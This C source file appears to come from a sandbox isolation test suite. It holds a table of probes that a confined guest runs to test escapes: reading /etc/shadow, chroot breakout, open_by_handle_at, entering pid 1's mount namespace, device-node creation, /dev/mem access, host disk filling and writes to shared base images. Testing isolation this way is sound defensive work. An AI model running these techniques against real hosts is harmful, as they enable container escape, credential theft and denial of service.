/* SPDX-License-Identifier: Apache-2.0 */
/* rows_file.c - attacks on files, mounts and devices. */
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <unistd.h>

#include "base/num.h"
#include "probe/attack.h"
#include "vmm/vmm_fds.h"

#define DISK_FILL (64 * MIB)
#define LEAKS_MAX 1024

static int shadow(const struct scene *s)
{
	(void)s;
	return attack_opens_canary(AT_FDCWD, "/etc/shadow");
}

static int disk_read(const struct scene *s)
{
	return attack_opens_canary(AT_FDCWD, s->disk);
}

static int disk_write(const struct scene *s)
{
	int fd = open(s->disk, O_WRONLY | O_CLOEXEC);

	return fd < 0 ? -errno : attack_result(write(fd, CANARY, sizeof(CANARY)));
}

/* Wherever something can be made. */
static int device_node(const struct scene *s)
{
	char byte, path[SCENE_TEXT + 8];
	const char *const dirs[] = { s->dir, "/dev/shm", "/", "." };
	int r = -ENOENT;

	for (size_t i = 0; i < ARRAY_SIZE(dirs) && r != 0; i++) {
		int fd;
		(void)snprintf(path, sizeof(path), "%s/zero", dirs[i]);
		(void)unlink(path);
		if (mknod(path, S_IFCHR | 0666, makedev(1, 5)) < 0) {
			r = -errno;
			continue;
		}
		fd = open(path, O_RDONLY | O_CLOEXEC);
		r = fd < 0 ? -errno : attack_result(read(fd, &byte, 1));
	}
	return r;
}

static int kernel_memory(const struct scene *s)
{
	(void)s;
	if (open("/dev/mem", O_RDONLY | O_CLOEXEC) >= 0)
		return 0;
	return attack_result(open("/dev/kmsg", O_WRONLY | O_CLOEXEC));
}

/* A directory of the host that somebody forgot to close. */
static int leaked_directory(const struct scene *s)
{
	char path[SCENE_TEXT + 32];
	int r = -EBADF;

	(void)snprintf(path, sizeof(path), "../../../../../..%s", s->secret);
	for (int fd = 3; fd < LEAKS_MAX && r != 0; fd++)
		r = attack_opens_canary(fd, path);
	return r;
}

/* Any descriptor on the file system names the mount; the handle needs no path. */
static int file_handle(const struct scene *s)
{
	union {
		unsigned char bytes[SCENE_HANDLE];
		struct file_handle h;
	} u;
	int r = -EBADF;

	memcpy(u.bytes, s->handle, sizeof(u.bytes));
	for (int at = 0; at < VMM_FD_VM; at++) {
		int fd = open_by_handle_at(at, &u.h, O_RDONLY | O_CLOEXEC);
		if (fd >= 0)
			return attack_reads_canary(fd);
		if (errno != EBADF)
			r = -errno;
	}
	return r;
}

/* The classic: a working directory that is left above the new root. */
static int chroot_breakout(const struct scene *s)
{
	const char *const dirs[] = { s->dir, "/" };
	int r = -ENOENT;

	for (size_t i = 0; i < ARRAY_SIZE(dirs) && r != 0; i++) {
		if (chdir(dirs[i]) < 0 || (mkdir("below", 0755) < 0 && errno != EEXIST) ||
		    chroot("below") < 0) {
			r = -errno;
			continue;
		}
		for (int up = 0; up < 64 && chdir("..") == 0;)
			up++;
		r = chroot(".") < 0 ? -errno : attack_opens_canary(AT_FDCWD, s->secret);
	}
	return r;
}

static int fill_fd(int fd, off_t from)
{
	static const char block[1U << 16];
	uint64_t done = 0;

	while (done < DISK_FILL) {
		ssize_t n = pwrite(fd, block, sizeof(block), from + (off_t)done);
		if (n <= 0)
			return n < 0 ? -errno : -ENOSPC;
		done += (uint64_t)n;
	}
	return 0;
}

/* One's own disk made longer, as a drive's thread writes to it. */
static int disk_grow(const struct scene *s)
{
	static char block[1U << 16];
	const struct iovec iov = { block, sizeof(block) };
	uint64_t done = 0;

	while (done < DISK_FILL) {
		ssize_t n =
			pwritev2(VMM_FD_DRIVE0 + 1, &iov, 1, (off_t)(s->scratch_bytes + done), 0);
		if (n <= 0)
			return n < 0 ? -errno : -ENOSPC;
		done += (uint64_t)n;
	}
	return 0;
}

/* The host's disk, by a file of one's own. */
static int disk_fill(const struct scene *s)
{
	const char *const dirs[] = { s->dir, "/dev/shm", "/" };
	char path[SCENE_TEXT + 8];
	int r = -ENOENT;

	for (size_t i = 0; i < ARRAY_SIZE(dirs) && r != 0; i++) {
		int fd;
		(void)snprintf(path, sizeof(path), "%s/fill", dirs[i]);
		fd = open(path, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0600);
		r = fd < 0 ? -errno : fill_fd(fd, 0);
		if (fd >= 0)
			(void)unlink(path);
	}
	return r;
}

static int enter_mount_namespace(const struct scene *s)
{
	int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);

	(void)s;
	return fd < 0 ? -errno : attack_result(setns(fd, CLONE_NEWNS));
}

static int mount_tmpfs(const struct scene *s)
{
	(void)s;
	return attack_result(mount("none", "/", "tmpfs", 0, NULL));
}

static int mount_by_fd(const struct scene *s)
{
	int fs = fsopen("tmpfs", FSOPEN_CLOEXEC), mnt;

	(void)s;
	if (fs < 0 || fsconfig(fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0) < 0)
		return -errno;
	mnt = fsmount(fs, FSMOUNT_CLOEXEC, 0);
	if (mnt < 0)
		return -errno;
	return attack_result(openat(mnt, "x", O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
}

static int vfio(const struct scene *s)
{
	char path[SCENE_TEXT + 8];

	if (open("/dev/vfio/vfio", O_RDWR | O_CLOEXEC) >= 0)
		return 0;
	(void)snprintf(path, sizeof(path), "%s/vfio", s->dir);
	if (mknod(path, S_IFCHR | 0600, makedev(10, 196)) < 0)
		return -errno;
	return attack_result(open(path, O_RDWR | O_CLOEXEC));
}

/* A file that others read too, of which we have a descriptor for reading: is it writable after all?
 */
static int change_shared(int fd)
{
	char path[32];
	void *p;
	int again;

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	again = open(path, O_RDWR | O_CLOEXEC);
	if (again >= 0)
		fd = again;
	if (pwrite(fd, "X", 1, 0) == 1)
		return 0;
	if (fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096) == 0)
		return 0;
	if (ftruncate(fd, 0) == 0)
		return 0;
	p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (p == MAP_FAILED)
		return -errno;
	*(volatile char *)p = 'X';
	return 0;
}

static int shared_memory(const struct scene *s)
{
	(void)s;
	return change_shared(VMM_FD_DRIVE0 + 2);
}

static int base_image(const struct scene *s)
{
	(void)s;
	return change_shared(VMM_FD_DRIVE0);
}

const struct attack attacks_file[] = {
	{ "V01", "read /etc/shadow", shadow, 0 },
	{ "V02", "read a neighbour's disk", disk_read, 0 },
	{ "V03", "write a neighbour's disk", disk_write, 0 },
	{ "V05", "make a device node and open it", device_node, 0 },
	{ "V06", "open /dev/mem or /dev/kmsg", kernel_memory, ATTACK_ANYWHERE },
	{ "V07", "openat from a leaked directory", leaked_directory, ATTACK_ANYWHERE },
	{ "V08", "open_by_handle_at", file_handle, 0 },
	{ "V09", "break out of a chroot", chroot_breakout, 0 },
	{ "V11", "fill the host's disk", disk_fill, 0 },
	{ "V20", "enter the mount namespace of pid 1", enter_mount_namespace, ATTACK_ANYWHERE },
	{ "V21", "mount over /", mount_tmpfs, 0 },
	{ "V69", "open VFIO", vfio, 0 },
	{ "V70", "change a template's memory", shared_memory, 0 },
	{ "V71", "change the base image", base_image, 0 },
	{ "V80", "mount by fsopen and fsmount", mount_by_fd, ATTACK_ANYWHERE },
	{ "V87", "make its own disk longer", disk_grow, ATTACK_RESTS_ON_RLIM },
	{ NULL, NULL, NULL, 0 },
};
